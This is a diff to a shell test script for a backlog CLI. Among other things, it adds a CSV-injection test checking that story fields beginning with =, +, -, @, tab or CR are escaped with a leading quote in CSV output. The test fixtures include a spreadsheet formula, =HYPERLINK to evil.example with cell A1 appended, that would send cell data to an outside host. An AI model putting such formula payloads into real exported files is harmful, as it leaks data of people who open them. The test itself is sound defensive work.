@@ -124,8 +124,45 @@ expect_out "--format text is the table" <<'X'
 2  S-2  draft       -  Say "hi", then: go
 3  S-4  ready    2.00  Story S-4
 X
+run_prio list --format json --format csv
+expect_grep '^id,title,' "the last --format given wins"
 run_prio list --json --format csv
-expect_grep '^id,title,' "the last format given wins"
+expect_rc 2 "--json --format csv is a usage error, not the last one winning"
+
+# --- CSV injection (OWASP): text from a story never starts a formula ------
+
+new_repo
+printf 'score: value - effort\n' >backlog/prio.yml
+story S-1 <<'EOF'
+---
+id: S-1
+title: =HYPERLINK("http://evil.example/?"&A1,"click")
+status: draft
+owner: +SUM(1)
+goal: -2+3
+labels: ['@cmd', 'a;=b']
+value: 1
+effort: 4
+---
+EOF
+printf -- '---\nid: S-2\ntitle: "\\tTab, first"\nstatus: draft\nowner: "\\r=1"\ngoal: "@x"\nvalue: 2\neffort: 1\n---\n' >backlog/stories/S-2.md
+story S-3 <<'EOF'
+---
+id: S-3
+title: a = b + c - d @ e
+status: draft
+owner: "'quoted"
+---
+EOF
+run_prio list --format csv
+expect_rc 0 "csv with formula-like text exits 0"
+crlf
+expect_out "cells starting = + - @ TAB CR get a leading '; a score of -3 stays a number" <<'X'
+id,title,status,rank,score,position,path,owner,goal,labels,depends_on,criteria_total,criteria_met\r
+S-2,"'	Tab, first",draft,,1,1,backlog/stories/S-2.md,"'\r=1",'@x,,,0,0\r
+S-1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",draft,,-3,2,backlog/stories/S-1.md,'+SUM(1),'-2+3,'@cmd;a;=b,,0,0\r
+S-3,a = b + c - d @ e,draft,,,3,backlog/stories/S-3.md,'quoted,,,,0,0\r
+X
 
 run_prio list --format xml
 expect_rc 2 "an unknown format is a usage error"
